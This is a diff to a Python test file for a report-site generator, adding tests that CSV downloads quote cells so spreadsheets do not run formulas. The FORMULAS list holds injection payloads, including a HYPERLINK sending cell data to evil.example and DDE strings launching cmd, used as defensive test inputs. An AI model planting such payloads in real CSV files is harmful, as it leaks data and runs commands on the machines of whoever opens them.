@@ -1,7 +1,11 @@
-"""Lose nothing, leak nothing: the build replaces only folders it wrote and reads only regular files."""
+"""Lose nothing, leak nothing: only folders the build wrote are replaced, only regular files read,
+CSV downloads run no formulas."""
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
+import json
 import os
 import socket
 import subprocess
@@ -13,6 +17,8 @@ import pytest
 
 from generator import bundle
 from generator.errors import ReportError, TownfactsError
+from generator.model import Fact, Meta, Report, Source
+from generator.pages.export import (FORMULA_STARTS, all_reports_json, facts_csv, joined_csv)
 from generator.site.reports import find_reports, report_bytes
 from generator.site.run import MARKER, check_site_dir
 from generator.site.uptodate import record_build
@@ -149,3 +155,33 @@ def test_report_bytes_reads_regular_files_only(tmp_path):
         assert err.value.path == str(tmp_path / name)
     assert report_bytes(secret) == "秘密".encode()
     assert [p.name for p in find_reports(tmp_path)] == ["fifo.txt", "link.txt", "socket.txt"]
+
+
+def report_with(text: str, slug: str = "zhili", growth: float = -3.5) -> Report:
+    """Return a one-fact report whose indicator, quote and place carry the text."""
+    meta = Meta(place=text + "镇", slug=slug, source=f"seeds/{slug}.txt", sha256="ab" * 32, place_en=text)
+    fact = Fact(f"{slug}-0001", text, -12.5, "亿元", "actual", Source(3, text + "完成-12.5亿元", "p-1"),
+                growth_pct=growth, period=text, indicator_en=text)
+    return Report(meta, facts=(fact,))
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_text_that_a_spreadsheet_would_run_is_quoted_and_numbers_stay_numbers(formula):
+    text = facts_csv([report_with(formula)])
+    assert joined_csv([text]) == text
+    (row,) = csv.DictReader(io.StringIO(text))
+    for key in ("place", "place_en", "indicator", "indicator_en", "period", "source_quote"):
+        assert not row[key].startswith(FORMULA_STARTS), (key, row[key])
+        assert row[key].startswith("'") and row[key][1:].startswith(formula[:1]), (key, row[key])
+    assert row["indicator"] == "'" + formula  # nothing else changes: the quote is the only addition
+    assert row["value"] == "-12.5" and row["growth_pct"] == "-3.5"  # numbers stay numbers, signs and all
+
+
+def test_plain_text_cells_are_left_as_they_are():
+    (row,) = csv.DictReader(io.StringIO(facts_csv([report_with("地区生产总值 'x'")])))
+    assert row["indicator"] == "地区生产总值 'x'" and row["growth_pct"] == "-3.5"
+
